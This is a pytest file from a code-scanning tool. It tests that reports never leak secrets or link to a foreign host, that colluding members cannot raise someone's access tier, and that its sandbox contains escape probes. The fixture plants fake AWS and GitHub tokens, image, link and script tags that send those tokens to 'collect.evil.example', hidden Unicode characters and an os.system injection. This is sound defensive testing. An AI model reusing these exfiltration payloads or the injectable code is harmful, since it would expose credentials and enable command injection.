"""Threats of the programme's model that no other file here is about: collusion, reports, the sandbox.

A2 and A3 are in `test_watching_fairly`, A4 in `test_injected`, A8 in `test_service`, A13 in `test_programme`,
A14 in `test_threats_organisations`; every coalition of two is tried in `property/test_programme_model`.
"""

from __future__ import annotations

import io
import re
from collections.abc import Iterator
from html.parser import HTMLParser

import pytest
from markdown_it import MarkdownIt

from tests.serving import environment
from tests.unit.app.house import House, Member, house, prove, raised
from vedette.app import appointment_requests as offices
from vedette.app import programme_requests as programme
from vedette.app.programme_requests import Me
from vedette.core.errors import VedetteError
from vedette.core.executions import NotExecuted, Walls
from vedette.doors.cli.console import Console
from vedette.doors.cli.entry import main
from vedette.sandbox.jail.jail import Jail
from vedette.sandbox.jail.probes.escapes import PROBES, attempt
from vedette.sandbox.jail.probes.world import World, world

# --- A6: two people together


@pytest.fixture(scope="module")
def place(tmp_path_factory: pytest.TempPathFactory) -> Iterator[House]:
    with house(tmp_path_factory.mktemp("house")) as made:
        yield made


@pytest.fixture(scope="module")
def operator(place: House) -> Member:
    return place.operator()


def done(who: Member, capability: str, request: object) -> bool:
    """Try something; tell whether it was done."""
    try:
        who.ask(capability, request)  # type: ignore[arg-type]  # whatever it is asked with
    except VedetteError:
        return False
    return True


def test_a6_an_operator_and_a_reviewer_make_nobody_t3(operator: Member) -> None:
    """Once it is founded: no reviewers out of thin air, no sponsor by invitation, no voice counted twice."""
    rex = operator.joined("Rex", "Council", "reviewer")
    operator.joined("Ria", "County", "reviewer")
    friend = operator.joined("Friend", "Firm")
    operator.ask("access.close_founding", offices.CloseFounding())
    prove(friend)
    for tier in (1, 2):
        raised(friend, rex, tier)
    sock_wish = programme.Invite(name="Sock", org="Canton", roles=("reviewer",))
    assert not done(operator, "identity.invite", sock_wish)
    sock = operator.joined("Sock", "Canton")
    prove(sock)
    named = operator.ask(
        "access.appoint", offices.Appoint(person=sock.id, office="reviewer", reasons="we need more")
    )
    for who in (rex, operator, sock):
        done(who, "access.agree", offices.Agree(appointment=named.appointment, agree=True, reasons="yes"))
    assert "reviewer" not in sock.ask("identity.me", Me()).roles
    puppet = operator.joined("Puppet", "Firm", admin=True)
    prove(puppet)
    case = friend.ask("access.apply", programme.Apply(tier=3, statement="please"))
    yes = programme.Review(application=case.id, approve=True, reasons="fine")
    for who in (rex, rex, operator, sock, puppet, friend):
        done(who, "access.sponsor", programme.Sponsor(application=case.id, reasons="ours"))
        done(who, "access.review", yes)
    assert friend.ask("identity.me", Me()).tier == "T2"


# --- A7: what leaves by a report

SECRETS = ("AKIAQ7X4ZT2MBN5VWCHD", "ghp_9fKq2LmZx7TbVw3RyNs8HdJc5GpXa1Ue0QoI")
LEAK = "https://collect.evil.example/p.png?d="
TREE = f"""
import os
from flask import request
AWS = "{SECRETS[0]}"  # ![x]({LEAK}{SECRETS[0]}) [click]({LEAK}) <img src="{LEAK}">
TOKEN = "{SECRETS[1]}"  # \U000e0049\U000e0047\U000e004e hidden words in tags
def run():  # <script src="{LEAK}"></script> \u202e backwards
    os.system("echo {SECRETS[1]} " + request.args["q"])  # ![x]({LEAK}{SECRETS[1]})
"""


class Links(HTMLParser):
    """Everything a browser would fetch or offer to open."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found += [value or "" for name, value in attrs if name in {"src", "href", "srcset", "action"}]
        assert tag not in {"iframe", "object", "embed", "base"}


@pytest.fixture(scope="module")
def reports(tmp_path_factory: pytest.TempPathFactory) -> dict[str, str]:
    """A report of a hostile tree, in every format people and programs read."""
    home = tmp_path_factory.mktemp("reports")
    (home / "app").mkdir()
    (home / "app" / "views.py").write_text(TREE, "utf-8")
    made = {}
    for name in ("json", "markdown", "html", "sarif", "terminal"):
        out = home / f"report.{name}"
        words = ("scan", str(home / "app"), "-f", name, "-o", str(out), "--fail-on", "never")
        assert main(words, Console(environment(home), io.StringIO(), io.StringIO())) == 0
        made[name] = out.read_text("utf-8")
    return made


def test_a7_no_secret_leaves_by_a_report(reports: dict[str, str]) -> None:
    for name, text in reports.items():
        assert "views.py" in text, f"{name} is no report of it"
        for secret in SECRETS:
            assert secret not in text, name


def test_a7_nothing_in_a_report_is_fetched_or_leads_to_a_foreign_host(reports: dict[str, str]) -> None:
    page = Links()
    page.feed(reports["html"])
    read = Links()
    read.feed(MarkdownIt("commonmark").enable("table").render(reports["markdown"]))
    for link in (*page.found, *read.found):
        assert "evil.example" not in link


def test_a7_no_letters_that_leave_no_trace(reports: dict[str, str]) -> None:
    for name in ("markdown", "html", "terminal"):
        assert not re.search("[\U000e0000-\U000e007f\u202a-\u202e\u2066-\u2069\u200b]", reports[name]), name


# --- A9: out of the sandbox

CHECKLIST = (
    "mounting",
    "steering another process",
    "a namespace of users of one's own",
    "memory of processes outside",
    "an abstract socket of the host",
    "input and output behind the filter",
    "device nodes",
    *(pytest.param(name, marks=pytest.mark.slow) for name in ("a fork bomb", "no end of small files")),
)


@pytest.fixture(scope="module")
def planted() -> Iterator[World]:
    with world() as made:
        yield made


@pytest.mark.parametrize("name", CHECKLIST)
def test_a9_what_is_analysed_stays_inside_and_what_it_tried_is_told(name: str, planted: World) -> None:
    """The checklist behind the strongest wall that stands here; all probes and walls are tried elsewhere."""
    (probe,) = (one for one in PROBES if one.name == name)
    jails = [jail for wall in Walls if not isinstance((jail := Jail(only=wall)).wall(), NotExecuted)]
    if not jails:
        pytest.skip("NOT EXECUTED: no wall stands on this machine, and so nothing is run on it")
    tried = attempt(probe, jails[0], planted)
    assert tried.held, tried.said
    assert tried.said


def test_a9_the_sandbox_holds_no_tokens() -> None:
    """What runs inside is given nothing of the environment, and nothing of who asked."""
    with world() as made:
        (probe,) = (one for one in PROBES if one.name == "a secret in the environment")
        jails = [jail for wall in Walls if not isinstance((jail := Jail(only=wall)).wall(), NotExecuted)]
        if not jails:
            pytest.skip("NOT EXECUTED: no wall stands on this machine")
        assert attempt(probe, jails[0], made).held
